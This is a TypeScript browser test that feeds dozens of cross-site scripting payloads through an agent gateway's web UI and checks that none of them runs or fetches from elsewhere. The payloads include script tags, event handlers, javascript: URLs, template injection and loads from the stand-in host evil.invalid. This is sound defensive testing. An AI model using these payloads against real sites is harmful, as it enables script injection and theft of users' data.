/** Texts that want to be code, in every place where the page shows what others wrote: nothing of them runs in a real browser. */
import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { chromium, type Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { requirement } from "./require.ts";
import { owner, System } from "./support/system.ts";

const chromiumPath = "/usr/bin/chromium";
const run = "window.__ran=(window.__ran||0)+1";
const foreign = "http://evil.invalid";

/** Each would run, or fetch from elsewhere, where a text is taken for HTML, for a style, for an address, or for a template. */
const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src=${foreign}/x.js></script>`,
  `"><script>${run}</script>`,
  `'--><svg/onload=${run}>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}" /`,
  `<img src="${foreign}/pixel.png">`,
  `<image href=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="${foreign}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=" java\tscript:${run}">x</a>`,
  `<base href="${foreign}/">`,
  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
  `<link rel="stylesheet" href="${foreign}/x.css">`,
  `<style>@import "${foreign}/x.css";</style>`,
  `<style>*{background:url(${foreign}/x)}</style>`,
  `<div style="background:url(${foreign}/x)">x</div>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u202E<script>${run}</script>`,
];
const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#x73;cript:${run}`,
  `&#106;avascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `//evil.invalid/x`,
  `${foreign}/pixel.png`,
];
const wrapped: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `**${payload}** and text`,
  (payload) => `- ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload} | \`${payload}\` |`,
  (payload) => "```html\n" + payload + "\n```",
];
const linked: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][1]\n\n[1]: ${address}`,
  (address) => `[![picture](${address})](${address} "title ${run}")`,
];
const texts = [
  ...payloads.flatMap((payload) => wrapped.map((wrap) => wrap(payload))),
  ...addresses.flatMap((address) => linked.map((link) => link(address))),
];

const inspection = await readFile(new URL("support/dangerous-markup.mjs", import.meta.url), "utf8");

/** What a rendered text must never have become, whatever the content security policy would have stopped afterwards. */
async function dangers(page: Page): Promise<string[]> {
  return z.array(z.string()).parse(await page.evaluate(inspection));
}

describe.runIf(requirement("browser", existsSync(chromiumPath)) === "run")("texts that want to be code", () => {
  test(`${texts.length} of them run nothing and fetch nothing`, { timeout: 120_000 }, async () => {
    expect(texts.length).toBeGreaterThanOrEqual(300);
    await using system = await System.start();
    await system.ask(`bash: printf '%s' '<img src=x onerror=${run}><script>${run}</script>'`, owner);
    await system.gateway.end("SIGTERM");
    fill(join(system.folder, "praktor.db"));
    await system.startGateway();
    const api = async (method: string, path: string, body: unknown): Promise<number> => {
      const answer = await fetch(system.gateway.web + path, {
        method,
        headers: { origin: system.gateway.web, "content-type": "application/json" },
        body: JSON.stringify(body),
      });
      return answer.status;
    };
    for (const [index, payload] of payloads.entries()) {
      expect(await api("POST", "/api/groups", { id: `x${index}`, name: payload, folder: `x${index}` })).toBe(201);
      const task = { group_id: "texts", name: payload, schedule: "@daily", prompt: payload, enabled: false };
      expect(await api("POST", "/api/tasks", task)).toBe(201);
      const name = payload.replaceAll(/[/\0]/g, "_").slice(0, 120);
      const file = await fetch(
        `${system.gateway.web}/api/groups/texts/files/content?path=${encodeURIComponent(name)}`,
        {
          method: "PUT",
          headers: { origin: system.gateway.web },
          body: payload,
        },
      );
      // A name that the workspace refuses cannot be shown either.
      expect([201, 400]).toContain(file.status);
    }

    await using browser = await chromium.launch({
      executablePath: chromiumPath,
      args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"],
    });
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const asked: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(system.gateway.web) && !/^(data|blob|ws):/.test(request.url()))
        asked.push(request.url());
    });
    page.on("dialog", (dialog) => {
      asked.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    const inspect = async (): Promise<void> => {
      expect(await dangers(page)).toEqual([]);
      expect(await page.evaluate('"__ran" in window')).toBe(false);
      expect(asked).toEqual([]);
    };

    for (const path of ["/", "/groups", "/groups/texts", "/tasks", "/conversations", `/conversations/${owner}`]) {
      await page.goto(system.gateway.web + path);
      await page.locator("main#page h1").first().waitFor();
      await page.waitForLoadState("networkidle");
      await inspect();
    }
    await page.getByText(/^1 step · /).click();
    await page.getByText("Bash", { exact: true }).click();
    await inspect();

    // All along the history, from its end to its first message.
    await page.goto(`${system.gateway.web}/conversations/texts`);
    await page.getByText("The end of the texts.", { exact: true }).waitFor();
    const box = page.getByRole("group", { name: "Messages" });
    await box.hover();
    let isAtStart = false;
    for (let turn = 0; turn < 400 && !isAtStart; turn += 1) {
      await page.mouse.wheel(0, -800);
      await page.waitForTimeout(30);
      await inspect();
      isAtStart = await page.getByText("The beginning of the texts.", { exact: true }).isVisible();
    }
    expect(isAtStart).toBe(true);
    await inspect();

    await page.goto(`${system.gateway.web}/`);
    await page.getByText("Recent messages").waitFor();
    await page.keyboard.press("Control+k");
    await page.getByRole("dialog").getByRole("combobox").fill("script");
    await page
      .getByRole("dialog")
      .getByRole("option", { name: /script/ })
      .first()
      .waitFor();
    await inspect();
    // The inspection itself can fail.
    await page.evaluate(
      "document.querySelector('main').append(new Image()), document.querySelector('main img').setAttribute('onerror', '0')",
    );
    expect(await dangers(page)).toEqual(["img onerror"]);
  });
});

/** A group whose history is the texts, said by people and by the agent. Nobody but the gateway opens its database while it runs. */
function fill(file: string): void {
  using database = new DatabaseSync(file);
  database.exec(`
    insert into groups (id, name, folder, is_main, created_at) values ('texts', 'Texts', 'texts', 0, 1);
    insert into conversations (id, group_id, channel, address, kind, title, created_at)
      values ('texts', 'texts', 'web', '{"channel":"web"}', 'page', 'Page', 1);
  `);
  const insert = database.prepare(
    "insert into messages (group_id, conversation_id, role, sender, content, metadata, created_at) values ('texts', 'texts', ?, ?, ?, '{}', ?)",
  );
  const all = ["The beginning of the texts.", ...texts, "The end of the texts."];
  for (const [index, text] of all.entries()) {
    const isAgent = index % 2 === 0;
    insert.run(isAgent ? "assistant" : "user", isAgent ? "agent" : "user:42", text, 1_700_000_000_000 + index * 1_000);
  }
}
